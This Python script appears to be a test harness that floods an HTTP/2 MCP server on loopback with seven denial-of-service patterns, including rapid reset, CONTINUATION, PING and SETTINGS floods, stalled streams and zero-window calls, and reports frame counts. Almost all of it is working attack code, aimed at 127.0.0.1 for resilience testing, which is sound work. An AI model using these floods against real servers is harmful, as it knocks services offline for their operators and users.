"""Floods of HTTP/2 frames against one address on loopback: floods.py KIND PORT PATH TOKEN_FILE SECONDS

Opens connections as an ordinary client does and then misbehaves in one way until the time is over. A connection that the
other side closes is opened again. Prints one JSON line: how many frames were sent on how many connections.
"""

import json
import socket
import sys
import time
from pathlib import Path

import h2.config
import h2.connection
import h2.settings
from hpack import Encoder
from hyperframe.frame import ContinuationFrame, DataFrame, HeadersFrame, PingFrame, RstStreamFrame, SettingsFrame

BATCH = 100
CONNECTIONS = 20
SEND_SECONDS = 0.5
# The pause before a connection is opened again, and from one step of a connection to its next where many trickle.
REST_SECONDS = 0.02
TRICKLE_SECONDS = 0.25
CANCEL = 8
CALL = {"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": {"name": "large", "arguments": {}}}


class Flood:
    def __init__(self, port, path, token, settings=None):
        self.port, self.path, self.token, self.settings = port, path, token, settings
        self.sent = 0
        self.connections = 0
        self.stream = 1
        self.socket = None

    def connect(self):
        self.socket = socket.create_connection(("127.0.0.1", self.port), timeout=SEND_SECONDS)
        connection = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        connection.initiate_connection()
        if self.settings:
            connection.update_settings(self.settings)
        self.socket.sendall(connection.data_to_send())
        if self.socket.recv(4) == b"HTTP":
            sys.exit("HTTP/2 is not spoken here: this would be no attack")
        self.connections += 1
        self.stream = 1

    def close(self):
        if self.socket:
            self.socket.close()
            self.socket = None

    def send(self, frames):
        self.socket.sendall(b"".join(frame.serialize() for frame in frames))
        self.sent += len(frames)

    def drain(self):
        """Reads what is there, so that the other side is never the one that waits."""
        self.socket.setblocking(False)
        try:
            while data := self.socket.recv(1 << 16):
                pass
            if data == b"":
                raise ConnectionResetError
        except BlockingIOError:
            pass
        finally:
            self.socket.settimeout(SEND_SECONDS)

    def head(self, flags, length=None):
        fields = [
            (":method", "POST"), (":scheme", "http"), (":authority", f"localhost:{self.port}"), (":path", self.path),
            ("content-type", "application/json"), ("accept", "application/json, text/event-stream"),
            ("mcp-protocol-version", "2025-11-25"),
        ]
        if self.token:
            fields.append(("authorization", f"Bearer {self.token}"))
        if length is not None:
            fields.append(("content-length", str(length)))
        # A table of its own for each head: nothing refers to what another head may have left.
        frame = HeadersFrame(self.stream, Encoder().encode(fields), flags=flags)
        self.stream += 2
        return frame


def rapid_reset(flood):
    frames = []
    for _ in range(BATCH):
        head = flood.head(["END_HEADERS", "END_STREAM"])
        frames += [head, RstStreamFrame(head.stream_id, error_code=CANCEL)]
    flood.send(frames)
    flood.drain()


def continuation(flood):
    if flood.stream == 1:
        flood.send([flood.head([])])
    block = Encoder().encode([(f"x-{number}", "a" * 100) for number in range(9)])
    flood.send([ContinuationFrame(1, block) for _ in range(BATCH)])
    flood.drain()


def ping(flood):
    # The answers are not read: they pile up on the other side, if it lets them.
    flood.send([PingFrame(0, b"8 octets") for _ in range(10 * BATCH)])


def settings(flood):
    flood.send([SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65535 + number}) for number in range(10 * BATCH)])


def empty_data(flood):
    if flood.stream == 1:
        flood.send([flood.head(["END_HEADERS"])])
    flood.send([DataFrame(1, b"") for _ in range(10 * BATCH)])
    flood.drain()


def endless(flood):
    """Bodies that are announced, begun and never ended, and a byte for each of them now and then."""
    flood.send([flood.head(["END_HEADERS"], 1000)])
    flood.send([DataFrame(number, b" ") for number in range(1, flood.stream, 2)])
    flood.drain()


def zero_window(flood):
    """Calls with large answers that may not be sent, one after the other: a burst of calls would be another attack."""
    body = json.dumps(CALL).encode()
    head = flood.head(["END_HEADERS"], len(body))
    flood.send([head, DataFrame(head.stream_id, body, flags=["END_STREAM"])])
    flood.drain()


# What is done, how many connections do it side by side, and whether with a token: without one a stranger does it.
KINDS = {
    "rapid reset": (rapid_reset, 1, False),
    "CONTINUATION flood": (continuation, 1, False),
    "PING flood": (ping, 1, False),
    "SETTINGS flood": (settings, 1, False),
    "empty DATA": (empty_data, 1, True),
    "streams never ended": (endless, CONNECTIONS, True),
    "zero window": (zero_window, CONNECTIONS, True),
}


def main():
    kind, port, path, token_file, seconds = sys.argv[1:]
    step, width, with_token = KINDS[kind]
    token = Path(token_file).read_text().strip() if with_token else None
    closed_window = {h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0} if step is zero_window else None
    floods = [Flood(int(port), path, token, closed_window) for _ in range(width)]
    deadline = time.monotonic() + float(seconds)
    while time.monotonic() < deadline:
        for flood in floods:
            try:
                if flood.socket is None:
                    flood.connect()
                step(flood)
            except OSError:
                flood.close()
                time.sleep(REST_SECONDS)
            if width > 1:
                time.sleep(TRICKLE_SECONDS / width)
    for flood in floods:
        flood.close()
    print(json.dumps({"frames": sum(flood.sent for flood in floods), "connections": sum(flood.connections for flood in floods)}))


if __name__ == "__main__":
    main()
